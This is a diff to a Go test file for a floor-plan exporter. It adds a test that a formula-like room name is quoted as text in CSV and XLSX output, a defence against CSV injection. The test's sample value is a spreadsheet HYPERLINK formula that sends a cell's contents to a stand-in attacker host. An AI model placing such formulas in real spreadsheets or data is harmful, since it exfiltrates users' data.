@@ -191,15 +191,7 @@ func TestWriteTables(t *testing.T) {
 		}
 	})
 	t.Run("xlsx", func(t *testing.T) {
-		var buf bytes.Buffer
-		if err := exports.WriteXLSX(&buf, d, exports.TableOptions{}); err != nil {
-			t.Fatal(err)
-		}
-		x, err := excelize.OpenReader(&buf)
-		if err != nil {
-			t.Fatal(err)
-		}
-		defer x.Close()
+		x := xlsxOf(t, d)
 		rows, err := x.GetRows("房间")
 		if err != nil || len(rows) != 4 {
 			t.Fatalf("%d rows, %v", len(rows), err)
@@ -209,4 +201,66 @@ func TestWriteTables(t *testing.T) {
 			t.Errorf("area cell %q is not the number 20", raw)
 		}
 	})
+}
+
+// TestTablesNeutraliseFormulas: a room named like a formula is written as text in CSV and XLSX (a quote
+// before it), while the numbers stay numbers (CSV injection).
+func TestTablesNeutraliseFormulas(t *testing.T) {
+	f := newFixture(t)
+	const evil = `=HYPERLINK("http://evil.example/?"&A1,"点我")`
+	r := floorplan.Room{FloorID: f.f2.ID, Number: "-B2", Name: evil, Usage: floorplan.UsageOffice, Geometry: rect(5, 0, 3, 3)}
+	if err := f.s.CreateRoom(ctx, &r); err != nil {
+		t.Fatal(err)
+	}
+	d, err := exports.Load(ctx, f.s, exports.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var buf bytes.Buffer
+	if err := exports.WriteCSV(&buf, d, exports.TableOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes()[3:])).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	row := rowOf(t, rows, "'-B2")
+	if row[4] != "'"+evil || row[8] != "9.00" {
+		t.Errorf("CSV row %q: the name must be quoted, the area a number", row)
+	}
+	sheet, err := xlsxOf(t, d).GetRows("房间")
+	if err != nil {
+		t.Fatal(err)
+	}
+	row = rowOf(t, sheet, "'-B2")
+	if row[4] != "'"+evil {
+		t.Errorf("XLSX row %q: the name must be quoted", row)
+	}
+}
+
+// rowOf returns the row whose room number (column D) is number.
+func rowOf(t *testing.T, rows [][]string, number string) []string {
+	t.Helper()
+	for _, r := range rows {
+		if len(r) > 8 && r[3] == number {
+			return r
+		}
+	}
+	t.Fatalf("no row for room %s in %q", number, rows)
+	return nil
+}
+
+// xlsxOf writes d as XLSX and opens the workbook (closed when t ends).
+func xlsxOf(t *testing.T, d *exports.Data) *excelize.File {
+	t.Helper()
+	var buf bytes.Buffer
+	if err := exports.WriteXLSX(&buf, d, exports.TableOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	x, err := excelize.OpenReader(&buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { x.Close() })
+	return x
 }
